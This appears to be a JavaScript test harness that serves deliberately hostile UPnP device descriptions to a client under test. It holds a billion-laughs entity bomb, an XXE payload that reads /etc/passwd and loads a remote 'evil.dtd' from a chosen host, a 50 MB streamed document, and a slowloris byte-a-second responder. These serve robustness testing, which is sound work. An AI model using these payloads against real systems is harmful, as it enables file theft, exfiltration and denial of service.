// UPnP device descriptions that misbehave, and the servers that send them: an XML bomb, XXE,
// a 50 MB document streamed (never held in memory), and one that trickles a byte a second.
import http from 'node:http'
import net from 'node:net'
import {once} from 'node:events'

const xmlEscape = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
/** Text as a device may send it: markup inside CDATA arrives as literal characters. */
const cdata = (s) => `<![CDATA[${s.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`

/** A well-formed root device description; `raw` fields go in as CDATA (control characters and all). */
export function description({deviceType, friendlyName, manufacturer, modelName, modelNumber = '1', uuid, raw = false, services = []}) {
  const text = raw ? cdata : xmlEscape
  return [
    '<?xml version="1.0" encoding="utf-8"?>',
    '<root xmlns="urn:schemas-upnp-org:device-1-0">',
    '<specVersion><major>1</major><minor>0</minor></specVersion>',
    '<device>',
    `<deviceType>${deviceType}</deviceType>`,
    `<friendlyName>${text(friendlyName)}</friendlyName>`,
    `<manufacturer>${text(manufacturer)}</manufacturer>`,
    `<modelName>${text(modelName)}</modelName>`,
    `<modelNumber>${text(modelNumber)}</modelNumber>`,
    `<UDN>uuid:${uuid}</UDN>`,
    services.length ? `<serviceList>${services.map((s) => `<service><serviceType>${s}</serviceType></service>`).join('')}</serviceList>` : '',
    '</device>',
    '</root>',
    '',
  ].join('\n')
}

/**
 * Billion laughs: ten levels of ten references, 10^9 "lol"s (3 GB) if an entity were ever
 * expanded. With `externalHost`, also an external entity there (XXE in the same document).
 */
export function billionLaughs(uuid, {externalHost = null} = {}) {
  const levels = ['<!ENTITY lol "lol">']
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`)
  return [
    '<?xml version="1.0" encoding="utf-8"?>',
    `<!DOCTYPE root [\n${levels.join('\n')}\n${externalHost ? `<!ENTITY ext SYSTEM "http://${externalHost}/ext.xml">\n` : ''}]>`,
    '<root xmlns="urn:schemas-upnp-org:device-1-0">',
    '<device><deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType>',
    `<friendlyName>&lol9;</friendlyName><manufacturer>&lol9;</manufacturer><modelName>${externalHost ? '&ext;' : '&lol3;'}</modelName>`,
    `<UDN>uuid:${uuid}</UDN></device></root>`,
    '',
  ].join('\n')
}

/**
 * XXE: a local file and a remote DTD at a public address as external entities. A parser that
 * resolved them would read /etc/passwd, or send a packet to `remoteHost`.
 */
export function xxe(uuid, remoteHost) {
  return [
    '<?xml version="1.0" encoding="utf-8"?>',
    `<!DOCTYPE root SYSTEM "http://${remoteHost}/upnp.dtd" [`,
    '<!ENTITY passwd SYSTEM "file:///etc/passwd">',
    `<!ENTITY % remote SYSTEM "http://${remoteHost}/evil.dtd">`,
    '%remote;',
    ']>',
    '<root xmlns="urn:schemas-upnp-org:device-1-0">',
    '<device><deviceType>urn:schemas-upnp-org:device:MediaServer:1</deviceType>',
    '<friendlyName>&passwd;</friendlyName><manufacturer>&exfil;</manufacturer><modelName>XXE</modelName>',
    `<UDN>uuid:${uuid}</UDN></device></root>`,
    '',
  ].join('\n')
}

/** Serve `handler` over HTTP on ip:port; resolves once listening. */
export async function listenHttp(ip, port, log, handler) {
  const server = http.createServer((req, res) => {
    log(`HTTP ${req.method} ${req.url} from ${req.socket.remoteAddress} on ${port}`)
    res.on('error', () => undefined)
    Promise.resolve(handler(req, res)).catch((error) => {
      log('handler failed', error.message)
      res.destroy()
    })
  })
  server.on('clientError', (_error, socket) => socket.destroy())
  server.listen(port, ip)
  await once(server, 'listening')
  return server
}

/** Serve raw TCP on ip:port (for answers that are not valid HTTP); resolves once listening. */
export async function listenTcp(ip, port, log, onConnection) {
  const sockets = new Set()
  const server = net.createServer((socket) => {
    if (sockets.size >= 64) return socket.destroy()
    sockets.add(socket)
    socket.on('close', () => sockets.delete(socket))
    socket.on('error', () => undefined)
    log(`TCP connection from ${socket.remoteAddress} on ${port}`)
    onConnection(socket)
  })
  server.listen(port, ip)
  await once(server, 'listening')
  return server
}

/** Resolve when `stream` can take more (or is gone); leaves no listener behind. */
export function drained(stream) {
  return new Promise((resolve) => {
    const done = () => {
      stream.off('drain', done)
      stream.off('close', done)
      resolve()
    }
    stream.on('drain', done)
    stream.on('close', done)
  })
}

const PAD = Buffer.alloc(64 * 1024, 'A')

/**
 * Stream a description of `totalBytes` whose friendlyName is megabytes of "A", written chunk
 * by chunk as the client reads (backpressure), so the device never holds it in memory. With
 * `chunked`, no Content-Length is sent.
 */
export async function streamHuge(res, totalBytes, uuid, {chunked = false} = {}) {
  const head = Buffer.from(`<?xml version="1.0" encoding="utf-8"?>\n<root xmlns="urn:schemas-upnp-org:device-1-0"><device><deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType><friendlyName>`)
  const tail = Buffer.from(`</friendlyName><UDN>uuid:${uuid}</UDN></device></root>\n`)
  res.writeHead(200, {'Content-Type': 'text/xml; charset="utf-8"', ...(chunked ? {} : {'Content-Length': String(totalBytes)})})
  let closed = false
  res.on('close', () => (closed = true))
  res.write(head)
  let left = totalBytes - head.length - tail.length
  while (left > 0 && !closed) {
    const chunk = left >= PAD.length ? PAD : PAD.subarray(0, left)
    left -= chunk.length
    if (!res.write(chunk)) await drained(res)
  }
  if (!closed) res.end(tail)
}

/**
 * Slowloris: one byte a second, status line and headers included, forever (until the client
 * gives up, or after `maxSeconds`).
 */
export function trickle(socket, text, {maxSeconds = 600} = {}) {
  let i = 0
  const timer = setInterval(() => {
    if (socket.destroyed || i >= maxSeconds) {
      clearInterval(timer)
      socket.destroy()
      return
    }
    socket.write(text[i % text.length])
    i++
  }, 1000)
  socket.on('close', () => clearInterval(timer))
}

/** What a slowloris device trickles: a plausible start of a description answer. */
export function slowAnswer(uuid) {
  return `HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: 100000\r\n\r\n<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"><device><UDN>uuid:${uuid}</UDN>${' '.repeat(4096)}`
}
